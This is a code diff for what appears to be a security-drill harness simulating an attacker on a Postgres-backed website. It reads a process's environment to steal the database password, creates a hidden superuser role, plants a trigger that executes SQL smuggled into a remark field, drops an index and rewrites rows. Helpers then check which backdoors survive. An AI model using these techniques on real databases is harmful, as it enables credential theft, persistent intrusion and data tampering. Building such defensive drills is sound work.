@@ -1,7 +1,7 @@
 import { readFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { EstateError, hasCode } from '@bulkhead/kernel';
-import { connectionTo, openAdmin, rolesOf } from '@bulkhead/postgres';
+import { type Admin, connectionTo, openAdmin, rolesOf } from '@bulkhead/postgres';
 import type { EstatePaths } from '#estate/paths.ts';
 import type { RunningEstate } from '#estate/run.ts';
 import { askSite } from '#site/launch.ts';
@@ -26,14 +26,19 @@ export async function readMarked(paths: EstatePaths, mark: string): Promise<numb
 }
 
 /** What somebody takes who may look at the website's process: its environment holds the password of its role. */
-export async function takePassword({ headquarters }: RunningEstate): Promise<string> {
+export function takePassword(running: RunningEstate): Promise<string> {
+  return takeVariable(running, COMPARTMENT, 'DATABASE_PASSWORD');
+}
+
+/** A variable of the environment of a compartment's process. */
+export async function takeVariable({ headquarters }: RunningEstate, compartment: string, variable: string): Promise<string> {
   const status = await askSite(headquarters);
-  const pid = status?.processes.find(({ name }) => name === COMPARTMENT)?.pid;
+  const pid = status?.processes.find(({ name }) => name === compartment)?.pid;
   const environment = await readFile(`/proc/${pid}/environ`, 'utf8').catch(() => '');
-  const line = environment.split('\0').find((each) => each.startsWith('DATABASE_PASSWORD='));
+  const line = environment.split('\0').find((each) => each.startsWith(`${variable}=`));
   if (line === undefined)
-    throw new EstateError('process.unhealthy', `looking at the environment of ${COMPARTMENT}: this system does not show it`);
-  return line.slice('DATABASE_PASSWORD='.length);
+    throw new EstateError('process.unhealthy', `looking at the environment of ${compartment}: this system does not show it`);
+  return line.slice(variable.length + 1);
 }
 
 const STRIKES = [
@@ -52,28 +57,39 @@ export async function strikeDirectly(
   mark: string,
 ): Promise<{ readonly rows: number; readonly xids: readonly string[] }> {
   const session = await openSession(paths, password);
-  const xids: string[] = [];
-  let rows = 0;
   try {
-    for (const statement of STRIKES) {
-      await session.query('begin');
-      rows += (await session.query(`${statement} returning 1`, [mark])).length;
-      const [row] = await session.query<{ xid: string }>(
-        'select (pg_current_xact_id()::text::numeric % 4294967296)::text as xid',
-      );
-      xids.push(row?.xid ?? '');
-      await session.query('commit');
-    }
+    return await strike(session, STRIKES, [mark]);
   } finally {
     await session.close();
+  }
+}
+
+/** Carries statements out, each in a transaction of its own. */
+async function strike(
+  session: Admin,
+  statements: readonly string[],
+  values: readonly string[],
+): Promise<{ readonly rows: number; readonly xids: readonly string[] }> {
+  const xids: string[] = [];
+  let rows = 0;
+  for (const statement of statements) {
+    await session.query('begin');
+    rows += (await session.query(`${statement} returning 1`, values)).length;
+    const [row] = await session.query<{ xid: string }>('select (pg_current_xact_id()::text::numeric % 4294967296)::text as xid');
+    xids.push(row?.xid ?? '');
+    await session.query('commit');
   }
   return { rows, xids };
 }
 
-/** Whether a password still opens a session. */
-export async function tryPassword(paths: EstatePaths, password: string): Promise<boolean> {
+/** Whether the password of the application's role still opens a session. */
+export function tryPassword(paths: EstatePaths, password: string): Promise<boolean> {
+  return tryLogin(paths, { role: rolesOf(COMPARTMENT).app, password });
+}
+
+async function tryLogin(paths: EstatePaths, login: Login): Promise<boolean> {
   try {
-    await (await openSession(paths, password)).close();
+    await (await openAs(paths, login)).close();
     return true;
   } catch (error) {
     if (hasCode(error, 'postgres.query_failed')) return false;
@@ -81,7 +97,67 @@ export async function tryPassword(paths: EstatePaths, password: string): Promise
   }
 }
 
-function openSession(paths: EstatePaths, password: string) {
-  const target = { database: COMPARTMENT, role: rolesOf(COMPARTMENT).app, password, applicationName: COMPARTMENT };
+/** What an administrator of the database leaves behind who is not one: rows rewritten, and ways to come back. */
+const BACK_DOOR = { role: 'nightly_report', password: 'simulated', routine: 'refresh_report' } as const;
+const LEFT_BEHIND = [
+  `create role ${BACK_DOOR.role} login superuser password '${BACK_DOOR.password}'`,
+  `create function ${BACK_DOOR.routine}() returns trigger language plpgsql as
+    $$ begin execute new.remark; return new; end $$`,
+  // Asleep: it runs what a remark says that begins with these words.
+  `create trigger ${BACK_DOOR.routine} before update on article_version for each row
+    when (new.remark like '/* report */%') execute function ${BACK_DOOR.routine}()`,
+  'drop index article_version_picture',
+] as const;
+const REWRITTEN = [
+  "update article_text set title = left(title, 100) || ' ' || $1 where language in ('en', 'fr') and (article_id % 4 = 1 or article_id = any(string_to_array($2, ',')::integer[]))",
+  `insert into article_event (article_id, version_number, kind, account_id, account_name, at, note)
+    select article_id, number, 'approved', 'x', 'nobody', now(), $1 from article_version where number = 1 and article_id <> all(string_to_array($2, ',')::integer[]) order by article_id limit 2`,
+] as const;
+
+/** Changes the schema and rows with the password of the database's superuser; @returns how many rows, in which transactions */
+export async function strikeAsAdministrator(
+  paths: EstatePaths,
+  password: string,
+  { mark, articles }: { readonly mark: string; readonly articles: readonly number[] },
+): Promise<{ readonly rows: number; readonly xids: readonly string[] }> {
+  const session = await openAs(paths, { role: 'postgres', password });
+  try {
+    for (const statement of LEFT_BEHIND) await session.query(statement);
+    return await strike(session, REWRITTEN, [mark, articles.join(',')]);
+  } finally {
+    await session.close();
+  }
+}
+
+/** Whether the role that was left behind, or the password that was taken, still opens the database. */
+export function tryBackDoor(paths: EstatePaths, password: string): Promise<{ readonly role: boolean; readonly taken: boolean }> {
+  const tried = [tryLogin(paths, BACK_DOOR), tryLogin(paths, { role: 'postgres', password })];
+  return Promise.all(tried).then(([role = true, taken = true]) => ({ role, taken }));
+}
+
+/** How much of what was left in the catalog stands: routine and trigger, and the index that was dropped. */
+export async function countLeftBehind(paths: EstatePaths): Promise<number> {
+  const admin = await openReader(paths);
+  try {
+    const [row] = await admin.query<{ count: number }>(
+      `select (select count(*) from pg_proc where proname = $1)::int + (select count(*) from pg_trigger where tgname = $1)::int
+        + (select count(*) from pg_roles where rolname = $2)::int
+        + case when to_regclass('article_version_picture') is null then 1 else 0 end as count`,
+      [BACK_DOOR.routine, BACK_DOOR.role],
+    );
+    return row?.count ?? 0;
+  } finally {
+    await admin.close();
+  }
+}
+
+function openSession(paths: EstatePaths, password: string): Promise<Admin> {
+  return openAs(paths, { role: rolesOf(COMPARTMENT).app, password });
+}
+
+type Login = { readonly role: string; readonly password: string };
+
+function openAs(paths: EstatePaths, { role, password }: Login): Promise<Admin> {
+  const target = { database: COMPARTMENT, role, password, applicationName: COMPARTMENT };
   return openAdmin(connectionTo(join(paths.runtime, 'hq', `${COMPARTMENT}-pg`), target));
 }
